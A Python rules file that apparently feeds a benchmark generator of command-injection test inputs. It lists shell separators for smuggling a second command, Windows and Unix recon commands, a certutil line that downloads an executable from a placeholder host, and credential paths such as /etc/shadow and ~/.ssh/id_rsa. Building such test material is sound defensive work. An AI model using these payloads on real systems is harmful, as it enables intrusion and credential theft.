"""Rules of the two families of commands."""

from __future__ import annotations

from benchmarks.requests.heldout.words import COMMON

RULES = COMMON | {
    "sep": ("", ";", "|", "&&", "||", "& ", "'; ", "\"|", "‹@n›;", "‹@tok›|", "‹@tok›&&", "`", "$(", "\n"),
    "winvar": tuple("COMSPEC SYSTEMROOT ProgramFiles PATHEXT USERNAME OS WINDIR TMP".split()),
    "winfile": tuple("Windows\\win.ini boot.ini inetpub\\wwwroot\\web.config Users\\Public\\notes.txt Windows\\System32\\drivers\\etc\\hosts".split()),
    "dos": ("dir ‹/s¦/b¦/a› C:\\", "whoami ‹/all¦/priv›", "type C:\\‹@winfile›", "net ‹user¦localgroup¦view¦share›", "ping -n ‹@n› ‹@ip›", "ipconfig /all", "certutil -urlcache -f http://‹@host›/‹@tok› ‹@tok›.exe", "echo ‹@tok›>‹@tok›.‹txt¦asp›", "systeminfo", "tasklist /v", "del /q ‹@tok›", "timeout ‹@n›"),
    "unixfile": ("/etc/passwd", "/etc/shadow", "/etc/hosts", "/proc/self/environ", "/etc/group", "/e?c/p?ss*", "/etc/issue", "~/.ssh/id_rsa", "/var/log/auth.log", "../.env", "/etc/crontab"),
}  # fmt: skip
